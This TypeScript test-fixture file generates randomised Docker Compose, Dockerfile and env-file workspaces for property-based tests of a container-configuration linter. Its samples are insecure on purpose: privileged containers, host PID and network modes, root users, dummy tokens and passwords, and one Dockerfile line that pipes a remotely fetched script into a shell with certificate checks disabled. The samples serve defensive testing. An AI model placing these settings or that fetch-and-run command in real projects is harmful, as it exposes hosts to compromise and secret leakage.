import fc from 'fast-check';

const service = (name: string, ...lines: string[]) =>
  `  ${name}:\n${lines.map((line) => `    ${line}\n`).join('')}`;
const services = (...all: string[]) => `services:\n${all.join('')}`;

/**
 * Texts that each file of a small workspace may have, by path: they affect each other by merging, including,
 * extending, building, interpolating, excluding and listing.
 */
export const texts: Readonly<Record<string, readonly string[]>> = {
  '/w/compose.yaml': [
    services(service('web', 'image: nginx:${TAG:-latest}', 'privileged: ${P:-true}')),
    services(
      service('web', 'build: app', 'env_file: app.env', 'user: "${U:-0}"'),
      service('db', 'image: postgres'),
    ),
    services(
      service('web', 'build: .', 'extends: {file: shared/base.yaml, service: base}'),
      service('aid', 'extends: {service: web}', 'pid: host'),
    ),
    services(
      service('web', 'build: {context: ., target: "${T:-a}"}'),
      service('aid', 'build: app', 'user: "1"'),
    ),
    `include: [shared/base.yaml]\n${services(service('web', 'image: nginx:1.27.3', 'network_mode: host'))}`,
    `x-on: &on {privileged: true}\n${services(service('web', '<<: *on', 'image: a/b', 'ports: ["80:80"]'))}`,
    `${services(service('web', 'build: {context: ., dockerfile: app/Dockerfile}', 'secrets: [key]'))}secrets: {key: {file: key.pem}}\n`,
    '# plimsoll ignore privileged: needed\nservices: [\n',
    '',
  ],
  '/w/compose.override.yaml': [
    services(service('web', 'privileged: false', 'pid: host')),
    services(service('web', 'extends: {file: shared/base.yaml, service: other}', 'cap_add: [SYS_ADMIN]')),
    `\n\n${services(service('db', 'privileged: true'), service('web', '# plimsoll ignore host-network', 'user: root'))}`,
  ],
  '/w/prod.yaml': [
    services(service('web', 'privileged: false', 'network_mode: host')),
    services(service('web', 'image: nginx', 'ipc: host', 'ports: !override ["127.0.0.1:80:80"]')),
    `# moved\n${services(service('web', 'extends: {file: shared/base.yaml, service: base}'))}`,
    `include: [../v/more.yaml]\n${services(service('web', 'extends: {file: ../v/more.yaml, service: more}'))}`,
  ],
  '/v/compose.yaml': [
    services(service('base', 'extends: {file: more.yaml, service: more}', 'image: a:${TAG:-latest}')),
    services(service('base', 'extends: {file: ../w/shared/base.yaml, service: base}', 'build: ../w/app')),
  ],
  '/v/more.yaml': [
    services(service('more', 'image: debian', 'pid: host')),
    services(service('more', 'image: debian:12', 'privileged: true')),
  ],
  '/w/shared/base.yaml': [
    services(service('base', 'image: debian', 'privileged: true'), service('other', 'image: b', 'pid: host')),
    services(service('base', 'build: ../app', 'env_file: [../app.env]', 'privileged: ${P:-false}')),
    services(service('other', 'image: debian:12', 'extends: base')),
  ],
  '/w/.env': [
    'P=true\nU=1000\n',
    'P=false\nTAG=1.27.3\n',
    'COMPOSE_FILE=compose.yaml:prod.yaml\nAPI_TOKEN=ghp_0123456789abcdefABCDEF0123456789abcd\n',
    'COMPOSE_FILE=prod.yaml\n',
  ],
  '/w/app.env': ['DB_PASSWORD=hunter2-but-longer\n', 'LEVEL=info\n'],
  '/w/app/.env': ['LEVEL=info\n', 'DB_PASSWORD=hunter2-but-longer\n', 'DB_PASSWORD=${DB_PASSWORD}\n'],
  '/w/key.pem': ['-----BEGIN\n', ''],
  '/w/Dockerfile': [
    'FROM node:22\nCOPY . .\nUSER root\n',
    'FROM node:22\nCOPY package.json .\nUSER 1000\n',
    'FROM debian AS a\nFROM node:22\nRUN sudo true\n',
    'FROM scratch AS a\nCOPY app/.env app/key.pem ./\nFROM a\nRUN curl -k https://a.example/i.sh | sh\n',
  ],
  '/w/app/Dockerfile': [
    'FROM debian\nCOPY . /srv\n',
    'FROM debian:12\nCOPY app/run.sh package.json ./\nUSER nobody\n',
    'FROM debian:12\nRUN sudo true\nUSER root\n',
  ],
  '/w/app/Dockerfile.dockerignore': ['*\n', 'package.json\n'],
  '/w/app/.dockerignore': ['.env\n', '*.sh\n'],
  '/w/.dockerignore': ['.env\n**/*.pem\n', 'app\n', 'package.json\n'],
  '/w/.gitignore': ['.env\n*.env\n', '*.pem\n', 'app\n'],
  '/w/app/run.sh': ['#!/bin/sh\n'],
  '/w/package.json': ['{}\n'],
};

/** All paths of the workspace except configuration files. */
export const paths: readonly string[] = Object.keys(texts);

/** Texts to insert into any file. */
const typed = ['', '\n', '# x\n', ' ', 'USER root\n', '    privileged: true\n', '"', ']'];

/** A path of the workspace, more often of a linted file. */
export const path: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...paths.filter((each) => /yaml$|Dockerfile$/.test(each))),
  fc.constantFrom(...paths),
);

/** A text that the file at a path may have, sometimes edited. */
export const textAt = (at: string): fc.Arbitrary<string> =>
  fc
    .record({
      text: fc.constantFrom(...(texts[at] ?? [''])),
      edit: fc.option(
        fc.record({ place: fc.nat(), cut: fc.nat({ max: 3 }), add: fc.constantFrom(...typed) }),
      ),
    })
    .map(({ text, edit }) => {
      if (!edit) return text;
      const from = edit.place % (text.length + 1);
      return text.slice(0, from) + edit.add + text.slice(from + edit.cut);
    });

/** Returns the listing of a folder; undefined if nothing is below it. */
export function listing(folder: string, files: Iterable<string>): string | undefined {
  const found = new Set<string>();
  for (const each of files) {
    if (!each.startsWith(folder) || each === folder) continue;
    const below = each.slice(folder.length);
    for (let at = below.indexOf('/'); at >= 0; at = below.indexOf('/', at + 1))
      found.add(below.slice(0, at + 1));
    found.add(below);
  }
  return found.size === 0 ? undefined : [...found].sort().join('\n');
}

/** A named action. */
export interface Step<Do> {
  readonly run: Do;
  toString(): string;
}

/** Creates a step with the name that a failure shows. */
export const step = <Do>(name: string, run: Do): Step<Do> & { [fc.toStringMethod](): string } => ({
  run,
  toString: () => name,
  [fc.toStringMethod]: () => name,
});
